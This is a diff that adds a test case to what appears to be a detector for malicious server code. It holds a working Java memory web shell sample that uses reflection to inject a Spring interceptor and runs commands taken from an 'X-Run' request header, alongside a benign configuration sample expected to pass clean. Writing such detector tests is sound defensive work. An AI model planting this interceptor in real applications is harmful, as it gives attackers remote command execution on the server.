@@ -508,3 +508,38 @@ ${body}
   foreach (var o in new System.Management.ManagementObjectSearcher("SELECT State FROM Win32_Service WHERE Name = 'W3SVC'").Get()) Response.Write(Server.HtmlEncode(o["State"] + name.Length.ToString()));`);
   expect('svc.aspx', query, 'clean');
 });
+
+test('java: a Spring interceptor added to the live handler mapping through its private list; a WebMvcConfigurer adding one is clean', () => {
+  const inject = `package x;
+import java.lang.reflect.Field;
+import org.springframework.web.servlet.handler.AbstractHandlerMapping;
+public class Inject {
+  public static void go(AbstractHandlerMapping mapping) throws Exception {
+    Field f = AbstractHandlerMapping.class.getDeclaredField("adaptedInterceptors");
+    f.setAccessible(true);
+    ((java.util.List<Object>) f.get(mapping)).add(new Evil());
+  }
+  public static class Evil extends org.springframework.web.servlet.handler.HandlerInterceptorAdapter {
+    public boolean preHandle(javax.servlet.http.HttpServletRequest request, javax.servlet.http.HttpServletResponse response, Object h) throws Exception {
+      String c = request.getHeader("X-Run");
+      if (c != null) { Runtime.getRuntime().exec(c); return false; }
+      return true;
+    }
+  }
+}`;
+  expect('Inject.java', inject, 'malicious', [
+    'flow/request-derived-variable-reaches-runtime-exec',
+    'capability/registers-a-filter-servlet-listener-endpoint-into-the-running-server',
+  ]);
+  const config = `package app;
+import org.springframework.context.annotation.Configuration;
+import org.springframework.web.servlet.config.annotation.*;
+@Configuration
+public class WebConfig implements WebMvcConfigurer {
+  @Override
+  public void addInterceptors(InterceptorRegistry registry) {
+    registry.addInterceptor(new org.springframework.web.servlet.i18n.LocaleChangeInterceptor()).addPathPatterns("/**");
+  }
+}`;
+  expect('WebConfig.java', config, 'clean');
+});
